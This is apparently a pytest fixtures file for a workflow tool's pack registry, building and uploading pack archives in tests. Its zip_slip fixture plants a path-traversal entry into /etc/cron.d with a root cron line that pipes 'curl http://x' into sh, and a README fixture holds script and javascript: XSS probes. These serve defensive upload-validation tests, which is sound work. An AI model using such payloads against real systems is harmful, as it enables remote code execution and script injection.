"""Pack fixtures: a pack made with `flowyard pack create`, built into a real archive, and an uploader."""

from __future__ import annotations

import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from backend.registry.models import NodePackVersion, Publisher
from workers import cli
from workers.packs.build import build_pack


@contextmanager
def installed_packs_settings(settings, blobs: Path, envs: Path) -> Iterator[None]:
    """Blobs and pack environments in these folders, core as the only built-in pack, nothing cached; on exit
    the embedded dispatcher must be idle (a run still executing would outlive the test's database)."""
    from backend.registry.runtime import forget_loaded_packs
    from backend.runs.dispatch import wait_local_idle
    from backend.storage.blobs import get_blob_store

    settings.FLOWYARD_BLOB_DIR = blobs
    settings.FLOWYARD_PACK_ENV_ROOT = envs
    settings.FLOWYARD_NODE_PACKS = ["nodepacks.core"]
    get_blob_store.cache_clear()
    forget_loaded_packs()
    yield
    assert wait_local_idle(30), "runs were still executing when the test ended"  # before their packs go
    forget_loaded_packs()
    get_blob_store.cache_clear()


@pytest.fixture(autouse=True)
def pack_settings(settings, tmp_path):
    settings.FLOWYARD_BLOB_BACKEND = "local"
    settings.FLOWYARD_BLOB_DIR = tmp_path / "blobs"
    settings.FLOWYARD_DISPATCHER = "local"
    settings.FLOWYARD_PACK_IMPORT_CHECK = False
    settings.FLOWYARD_PACK_VERDICT_WAIT = 30
    return settings


def make_cli_pack(
    parent: Path, name: str = "demo", publisher: str = "alice", version: str = "0.1.0", extra: str = ""
) -> Path:
    """A pack made with ``flowyard pack create`` in ``parent``, ``extra`` code appended, built: its archive."""
    parent.mkdir(parents=True)
    assert cli.main(["pack", "create", name, "--dir", str(parent)]) == 0
    source = parent / name
    manifest = source / "flowyard.toml"
    text = manifest.read_text().replace('publisher = "your-publisher-id"', f'publisher = "{publisher}"')
    manifest.write_text(text.replace('version = "0.1.0"', f'version = "{version}"'))
    module = source / name.replace("-", "_") / "__init__.py"
    code = module.read_text().replace('version="0.1.0"', f'version="{version}"')
    (source / "README.md").write_text(
        f"# {name}\n\nSee [docs](https://example.com) <script>alert(1)</script> [x](javascript:alert(1))\n"
    )
    module.write_text(code + extra)
    return build_pack(source, parent / "dist")


@pytest.fixture
def make_pack(tmp_path):
    """``make_pack(name, publisher, version="0.1.0", extra="")`` → a built .flowyard.zip (via the CLI's create)."""
    counter = iter(range(1000))

    def make(name: str = "demo", publisher: str = "alice", version: str = "0.1.0", extra: str = "") -> Path:
        return make_cli_pack(tmp_path / f"src{next(counter)}", name, publisher, version, extra)

    return make


@pytest.fixture
def zip_slip(tmp_path):
    """An archive with a valid manifest and an entry that climbs out of the pack folder."""
    path = tmp_path / "evil-0.1.0.flowyard.zip"
    manifest = (
        'name = "evil"\nversion = "0.1.0"\ndisplay_name = "Evil"\ndescription = "x"\npublisher = "alice"\n'
        'license = "MIT"\nsdk_api = ">=1.0,<2"\n'
    )
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("flowyard.toml", manifest)
        archive.writestr("../../etc/cron.d/evil", "* * * * * root curl http://x | sh\n")
    return path


@pytest.fixture
def upload(client_for):
    """``upload(user, archive, **form)`` → the response of POST /api/packs/upload with a Bearer token."""

    def send(user, archive: Path, **form):
        client = client_for(user, token=True)
        with archive.open("rb") as handle:
            return client.post("/api/packs/upload", {"archive": handle, **form}, format="multipart")

    return send


@pytest.fixture
def trusted(alice):
    """alice's own publisher, trusted by a site admin."""
    return Publisher.objects.create(slug="alice", display_name="Alice", user=alice, trusted=True)


@pytest.fixture
def active_version(trusted, make_pack, upload, alice):
    """demo 0.1.0 by alice, validated and active."""
    response = upload(alice, make_pack("demo", "alice"))
    assert response.status_code == 201, response.json()
    return NodePackVersion.objects.get(pk=response.json()["version"]["id"])
